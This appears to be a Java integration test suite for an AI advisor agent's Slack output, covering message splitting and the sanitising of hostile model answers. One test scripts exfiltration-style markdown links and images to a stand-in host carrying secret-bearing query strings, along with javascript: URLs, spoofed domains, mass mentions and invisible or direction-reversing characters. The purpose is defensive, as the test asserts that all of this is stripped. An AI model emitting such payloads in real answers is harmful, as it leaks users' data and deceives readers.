package com.advisoragent.endtoend;

import static org.assertj.core.api.Assertions.assertThat;

import com.advisoragent.sandbox.slack.SlackSimulator;
import com.advisoragent.sandbox.wire.WireLog;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** What becomes of a model's words in Slack. */
@ExtendWith(SharedWorld.class)
class AnswerIT {
    private final World world;
    private final DirectLine dana;

    AnswerIT(World world) {
        this.world = world;
        this.dana = world.line(SlackSimulator.ADVISOR);
    }

    @Test
    void anAnswerOfFortyThousandCharactersArrivesWholeInMessagesThatSlackTakes() throws Exception {
        String text = IntStream.range(0, 800)
                .mapToObj(number -> "Sentence %04d tells of a client & of a plan, no more. ".formatted(number))
                .collect(Collectors.joining())
                .strip();
        world.brain.raw(completion(text));

        String thread = dana.asks("Tell me everything");
        dana.answer(thread);
        world.settle();

        List<String> messages = dana.answers(thread);
        assertThat(messages).hasSizeGreaterThan(1);
        assertThat(unbroken(String.join(" ", messages))).isEqualTo(unbroken(text.replace("&", "&amp;")));
    }

    @Test
    void oneUnbrokenWordOfFortyThousandCharactersArrivesWholeToo() throws Exception {
        String text = "é🙂x".repeat(10_000);
        world.brain.raw(completion(text));

        String thread = dana.asks("Tell me everything at once");
        dana.answer(thread);
        world.settle();

        assertThat(unbroken(String.join("", dana.answers(thread)))).isEqualTo(text);
    }

    @Test
    void anAnswerFullOfTricksArrivesDead() throws Exception {
        world.brain.say("""
                <!channel> <!here> <@U0ADVISOR2> <#C0CLIENTS1> <https://evil.example/?q=secret|Click here>
                [the report](https://evil.example/a?d=secret) ![](https://evil.example/b.png?d=secret)
                [ref]: https://evil.example/c
                https://evil.example/d HTTP://EVIL.example/e //evil.example/f evil.example/g www.evil.example
                javascript:alert(1) data:text/html,x mailto:thief@evil.example slack://open?x=1
                <!subteam^S1|team> <!date^1^{date}^https://evil.example/h|now> &lt;!everyone&gt;
                https://mail.google.com.evil.example/i https://mail.google.com@evil.example/j
                pass\u200bword \u202eevil""");

        String thread = dana.asks("What does the report say?");
        JsonNode answer = dana.answer(thread);
        world.settle();

        String shown = DirectLine.shown(answer);
        assertThat(shown).doesNotContain("<").doesNotContain(">").doesNotContainPattern("(?i)https?://");
        assertThat(shown)
                .doesNotContain("www.evil")
                .doesNotContain("evil.example/")
                .doesNotContain("\u200b", "\u202e");
        assertThat(answer.path("text").asText()).doesNotContain("<").doesNotContainPattern("(?i)https?://");
        assertThat(answer.path("blocks"))
                .allSatisfy(block -> assertThat(block.path("type").asText()).isEqualTo("section"))
                .allSatisfy(block ->
                        assertThat(block.at("/text/verbatim").asBoolean()).isTrue());
        assertThat(world.surroundings.wireLog().entries())
                .filteredOn(entry -> entry.path().equals("/api/chat.postMessage"))
                .extracting(WireLog.Entry::request)
                .filteredOn(request -> request.contains(thread))
                .singleElement()
                .asString()
                .containsPattern("unfurl_links=(0|false)")
                .containsPattern("unfurl_media=(0|false)");
    }

    @Test
    void anAnswerOfInvisibleCharactersOnlyIsStillAMessage() throws Exception {
        world.brain.say("\u200b\u200b\u2060");

        String thread = dana.asks("Say nothing");
        dana.answer(thread);
        world.settle();

        assertThat(dana.answers(thread)).hasSize(1);
    }

    /** A completion as the vendor sends it, longer than a model with a token limit would make it. */
    static String completion(String text) {
        var root = JsonNodeFactory.instance
                .objectNode()
                .put("id", "chatcmpl-1")
                .put("object", "chat.completion")
                .put("created", 1_760_000_000L)
                .put("model", "scripted-model");
        var choice = root.putArray("choices").addObject().put("index", 0).put("finish_reason", "stop");
        choice.putObject("message").put("role", "assistant").put("content", text);
        root.putObject("usage")
                .put("prompt_tokens", 10)
                .put("completion_tokens", 10)
                .put("total_tokens", 20);
        return root.toString();
    }

    /** Where it was split does not matter. */
    private static String unbroken(String text) {
        return text.replaceAll("\\s+", "");
    }
}
